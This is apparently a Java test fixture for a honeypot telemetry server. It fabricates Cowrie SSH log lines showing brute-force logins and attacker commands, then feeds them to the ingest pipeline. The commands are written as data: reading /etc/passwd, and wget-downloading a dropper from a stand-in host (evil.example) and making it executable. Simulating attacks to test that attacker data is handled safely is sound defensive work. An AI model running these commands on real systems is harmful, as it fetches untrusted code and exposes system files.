package org.decnet.server.telemetry;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.decnet.ingest.DeadLetters;
import org.decnet.ingest.Ingest;
import org.decnet.ingest.formats.Codecs;
import org.decnet.server.node.IngestRun;
import org.decnet.server.node.Node;

/** What an attacker does to a decoy, as lines of a Cowrie log, and what of it is his. */
final class Attack {
  static final String ADDRESS = "198.51.100.7";

  /** All that he wrote or is known by, and none of it may be told. */
  static final List<String> HIS =
      List.of(
          ADDRESS,
          "mallory77",
          "hunter2-of-the-attacker",
          "c0ffee0123",
          "SSH-2.0-evilclient",
          "evil.example",
          "/tmp/.dropper",
          "/etc/passwd",
          "frobnicated",
          "whoami");

  private static final String START = "\"session\":\"c0ffee0123\",\"src_ip\":\"198.51.100.7\",";

  private Attack() {}

  /** Five logins that fail, one that does not, lines typed, a recording; with noise beside it. */
  static List<String> lines() {
    return List.of(
        line(
            0,
            "cowrie.session.connect",
            "\"src_port\":4711,\"dst_ip\":\"10.0.0.1\",\"dst_port\":22,"),
        line(1, "cowrie.client.version", "\"version\":\"SSH-2.0-evilclient\","),
        login(2, "failed"),
        login(3, "failed"),
        login(4, "failed"),
        login(5, "failed"),
        login(6, "failed"),
        login(7, "success"),
        command(8, "cat /etc/passwd; echo hunter2-of-the-attacker"),
        command(9, "wget http://evil.example/x -O /tmp/.dropper && chmod +x /tmp/.dropper"),
        line(10, "cowrie.log.closed", "\"ttylog\":\"log/tty/evil.example\",\"duration\":1.5,"),
        line(11, "cowrie.frobnicated", ""),
        "{ this is no record of mallory77",
        line(12, "cowrie.session.closed", "\"duration\":12.0,"),
        login(13, "failed").replace("web-1", "web-2"));
  }

  static String command(int second, String text) {
    return line(second, "cowrie.command.input", "\"input\":\"" + text + "\",");
  }

  private static String login(int second, String outcome) {
    return line(
        second,
        "cowrie.login." + outcome,
        "\"username\":\"mallory77\",\"password\":\"hunter2-of-the-attacker\",");
  }

  private static String line(int second, String id, String more) {
    String at = "2026-06-01T12:00:" + (second < 10 ? "0" : "") + second + ".000001Z";
    return "{\"eventid\":\""
        + id
        + "\","
        + START
        + more
        + "\"sensor\":\"web-1\",\"protocol\":\"ssh\","
        + "\"timestamp\":\""
        + at
        + "\",\"message\":\"\"}";
  }

  /** Reads lines as a node reads a log. */
  static void read(Node node, Path folder, List<String> lines) throws IOException {
    Path log = folder.resolve("cowrie.json");
    Files.write(log, lines);
    try (IngestRun run = node.ingest()) {
      new Ingest(
              Codecs.all(node.stores().events()),
              DeadLetters.in(node.deadLetterFolder()),
              run.sensors())
          .run(List.of(log), run);
    }
  }
}
